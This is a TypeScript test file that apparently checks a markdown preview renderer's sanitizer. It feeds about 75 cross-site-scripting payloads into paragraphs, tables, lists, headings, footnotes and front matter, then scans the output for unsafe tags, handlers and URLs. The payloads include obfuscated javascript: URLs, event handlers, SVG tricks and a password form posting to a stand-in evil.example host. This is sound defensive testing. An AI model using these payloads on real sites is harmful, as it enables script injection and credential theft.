// Hostile drafts through `benchpress render FILE` (dist/cli.js, as a process): whatever the payload and wherever it
// stands (paragraph, table cell, list, quote, heading, footnote, front matter), nothing executable survives — no
// script-like element, no event handler, no javascript:/vbscript:/non-image data: URL, no iframe/object/embed/
// base/meta/form/link, no resource loaded from outside except images (the preview's policy: <img> and
// <picture><source> may load http(s) images; the webview's CSP then allows https only) — and the paragraph
// after each payload is still shown.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { CLI, tempWorkspace } from '../support/workspace';
import { scanTags, textOf } from './html-scan';

const PAYLOADS: string[] = [
  // Scripts and handlers.
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'text <script>alert(1)',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<img src=x onerror=alert(1)>',
  '<img src="x.png" onerror="alert(1)"/>',
  '<img src=x onerror=alert(1)//',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="#" onclick="alert(1)" onmouseover=alert(2)>x</a>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input type="image" src="https://evil.example/a.png" onfocus=alert(1) autofocus>',
  '<div/onclick=alert(1)>x</div>',
  '<img src=x onerror\t=\talert(1)>',
  // Script URLs, with entity and whitespace tricks.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="javascript://%0aalert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
  '<img src="x.png" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)">',
  '[md link](javascript:alert(1))',
  '[md link](<javascript:alert(1)>)',
  '[md link](javascript&#58;alert(1))',
  '[ref link][evil]\n\n[evil]: javascript:alert(1)',
  '![md image](javascript:alert(1))',
  '![md image](data:text/html,<script>alert(1)</script>)',
  '<javascript:alert(1)>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<div action="javascript:alert(1)" itemtype="javascript:alert(2)">x</div>',
  '<img src="https://img.example/a.png" srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
  '<picture><source srcset="javascript:alert(1)"><img src="a.png"></picture>',
  // SVG and MathML.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style>@import url(https://evil.example/x.css)</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  // Frames, objects, forms, base, meta, link.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/">',
  '<object data="https://evil.example/x.swf"><param name=x value=javascript:alert(1)></object>',
  '<embed src="https://evil.example/x.swf">',
  '<frameset onload=alert(1)>',
  '<form action="https://evil.example/steal"><input name=password type=password><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<a href="https://ok.example/" ping="https://evil.example/ping">x</a>',
  // CSS tricks.
  '<style>@import \'https://evil.example/x.css\'; body{background:url(https://evil.example/t.png)}</style>',
  '<div style="background:url(https://evil.example/t.png)">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
  '<video poster="https://evil.example/p.png"></video>',
  // Parser confusion.
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<div><svg onload=alert(1)>',
  '<table><tr><td><iframe src=https://evil.example>',
  '<a href="javascript:alert(1)"',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
];

/** Elements that must never reach the preview. */
const FORBIDDEN = new Set(['script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'param', 'svg', 'math', 'base', 'meta', 'link', 'form', 'button', 'select', 'textarea', 'template', 'noscript', 'xmp', 'isindex', 'video', 'audio', 'marquee', 'body', 'html', 'head', 'title', 'animate', 'use', 'maction']);
/** Attributes whose value is fetched or followed. */
const URL_ATTRIBUTES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'cite', 'longdesc', 'background', 'poster', 'data', 'xlink:href', 'lowsrc', 'dynsrc', 'ping', 'itemtype', 'manifest', 'codebase']);
const IMAGE_DATA = /^data:image\/(?:png|gif|jpeg|webp);/;

/** Why `html` is unsafe, or nothing. */
export function unsafeParts(html: string): string[] {
  const problems: string[] = [];
  for (const tag of scanTags(html)) {
    if (FORBIDDEN.has(tag.name)) problems.push(`element <${tag.name}>`);
    if (tag.end) continue;
    for (const [name, value] of tag.attrs) {
      if (name.startsWith('on')) problems.push(`handler ${name} on <${tag.name}>`);
      if (name === 'style' || name === 'srcdoc') problems.push(`${name} attribute on <${tag.name}>`);
      if (!URL_ATTRIBUTES.has(name)) continue;
      const urls = name === 'srcset' ? value.split(',').map((c) => c.trim().split(/\s+/)[0]) : [value];
      for (const raw of urls) {
        const url = raw.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
        if (/^(?:javascript|vbscript|livescript):/.test(url)) problems.push(`script URL in ${name} of <${tag.name}>: ${raw}`);
        else if (url.startsWith('data:') && !(IMAGE_DATA.test(url) && ['img', 'source'].includes(tag.name))) problems.push(`data URL in ${name} of <${tag.name}>`);
        const loads = name !== 'href' && name !== 'cite' && name !== 'itemtype';
        const external = /^(?:https?:)?\/\//.test(url);
        if (loads && external && !(['src', 'srcset'].includes(name) && ['img', 'source'].includes(tag.name))) problems.push(`external load in ${name} of <${tag.name}>: ${raw}`);
      }
    }
  }
  // As text (tags removed, so quoted attribute values do not count), markup must be escaped.
  const text = textOf(html);
  if (/<\s*[a-z!?/]/i.test(text)) problems.push(`unescaped markup in text: ${/<\s*[a-z!?/][^\n]{0,40}/i.exec(text)![0]}`);
  return problems;
}

/** Where a payload stands: each context is followed by its own sentinel paragraph. */
function draftFor(payload: string, n: number): { text: string; sentinels: string[] } {
  const single = !payload.includes('\n');
  const parts: string[] = ['# 评测 Review', '', payload, '', `SENTINEL${n}top survives.`, ''];
  const sentinels = [`SENTINEL${n}top`];
  if (single) {
    parts.push('| a | b |', '|---|---|', `| ${payload} | cell |`, '', `SENTINEL${n}table survives.`, '');
    parts.push(`- item ${payload}`, '', `SENTINEL${n}list survives.`, '');
    parts.push(`> quote ${payload}`, '', `SENTINEL${n}quote survives.`, '');
    parts.push(`## Heading ${payload}`, '', `SENTINEL${n}heading survives.`, '');
    parts.push(`Note[^n${n}].`, '', `[^n${n}]: ${payload}`, '', `SENTINEL${n}footnote survives.`, '');
    sentinels.push(`SENTINEL${n}table`, `SENTINEL${n}list`, `SENTINEL${n}quote`, `SENTINEL${n}heading`, `SENTINEL${n}footnote`);
  }
  return { text: parts.join('\n'), sentinels };
}

function render(file: string, cwd: string): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, 'render', file], { cwd, env: { ...process.env, NO_COLOR: '1' } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c) => (stdout += c));
    child.stderr.on('data', (c) => (stderr += c));
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });
}

async function inParallel<T, R>(items: T[], limit: number, fn: (item: T, i: number) => Promise<R>): Promise<R[]> {
  const results: R[] = new Array(items.length);
  let next = 0;
  await Promise.all(Array.from({ length: limit }, async () => {
    while (next < items.length) {
      const i = next++;
      results[i] = await fn(items[i], i);
    }
  }));
  return results;
}

test('the checker of this test finds what it should (handlers, script URLs, forbidden elements, external loads)', () => {
  assert.deepEqual(unsafeParts('<p>ok <img src="https://img.example/a.png" alt="x"> <a href="https://x.example">l</a></p>'), []);
  assert.equal(unsafeParts('<img src="x" onerror="alert(1)">').length, 1);
  assert.equal(unsafeParts('<a href=" java&#x09;script:alert(1)">x</a>').length, 1);
  assert.equal(unsafeParts('<div action="javascript:x">').length, 1);
  assert.equal(unsafeParts('<source srcset="a.png 1x, javascript:x 2x">').length, 1);
  assert.equal(unsafeParts('<p><svg></svg></p>').length, 2);
  assert.equal(unsafeParts('<div style="x">').length, 1);
  assert.equal(unsafeParts('<video poster="https://e.example/p.png">').length, 2);
  assert.deepEqual(unsafeParts('<p title="<script>alert(1)</script>">&lt;script&gt;</p>'), []);
  assert.equal(unsafeParts('<p>a <script>x</p>').length, 1);
  assert.equal(unsafeParts('<p>a &lt;b> <i>c</i> < d</p>').length, 1);
});

/** Payloads per rendered file (a process per file; a payload that swallowed the next one's sentinel shows). */
const GROUP = 8;

test(`${PAYLOADS.length} hostile payloads in every context: nothing executable survives, the paragraph after each is shown`, async () => {
  assert.ok(PAYLOADS.length >= 50);
  const ws = tempWorkspace();
  try {
    const groups: number[][] = [];
    for (let i = 0; i < PAYLOADS.length; i += GROUP) groups.push(Array.from({ length: Math.min(GROUP, PAYLOADS.length - i) }, (_, k) => i + k));
    const drafts = groups.map((members, g) => {
      const parts = members.map((n) => draftFor(PAYLOADS[n], n));
      return { members, sentinels: parts.map((p) => p.sentinels), file: ws.write(`group${g}.md`, parts.map((p) => p.text).join('\n\n')) };
    });
    const results = await inParallel(drafts, 2, (d) => render(d.file, ws.root));
    const problems: string[] = [];
    results.forEach((r, g) => {
      const what = `payloads ${drafts[g].members[0]}–${drafts[g].members.at(-1)}`;
      if (r.status !== 0) problems.push(`${what}: exit ${r.status}: ${r.stderr.slice(0, 300)}`);
      for (const p of unsafeParts(r.stdout)) problems.push(`${what}: ${p}`);
      drafts[g].members.forEach((n, k) => {
        for (const s of drafts[g].sentinels[k]) if (!new RegExp(`<p data-line="\\d+">${s} survives\\.</p>`).test(r.stdout)) problems.push(`payload ${n} ${JSON.stringify(PAYLOADS[n])}: ${s} is not shown as its own paragraph`);
      });
    });
    assert.deepEqual(problems, [], problems.join('\n'));
  } finally {
    ws.dispose();
  }
});

test('hostile front matter is never shown, and the article after it is', async () => {
  const ws = tempWorkspace({
    'fm.md': '---\ntitle: "<script>alert(1)</script>"\nimage: javascript:alert(1)\nx: <img src=x onerror=alert(1)>\n---\n\n# T\n\nSENTINEL after front matter.\n',
    'toml.md': '+++\ntitle = "<svg onload=alert(1)>"\n+++\n\nSENTINEL after toml.\n',
    'broken.md': '---\ntitle: [<iframe src=javascript:alert(1)>\n---\n\nSENTINEL after broken front matter.\n',
  });
  try {
    for (const [file, sentinel] of [['fm.md', 'SENTINEL after front matter.'], ['toml.md', 'SENTINEL after toml.'], ['broken.md', 'SENTINEL after broken front matter.']]) {
      const r = await render(ws.file(file), ws.root);
      assert.equal(r.status, 0, r.stderr);
      assert.deepEqual(unsafeParts(r.stdout), [], r.stdout);
      assert.doesNotMatch(r.stdout, /alert|title:|title =/, `${file}: front matter is shown: ${r.stdout}`);
      assert.match(r.stdout, new RegExp(`<p data-line="\\d+">${sentinel.replace('.', '\\.')}</p>`));
    }
  } finally {
    ws.dispose();
  }
});
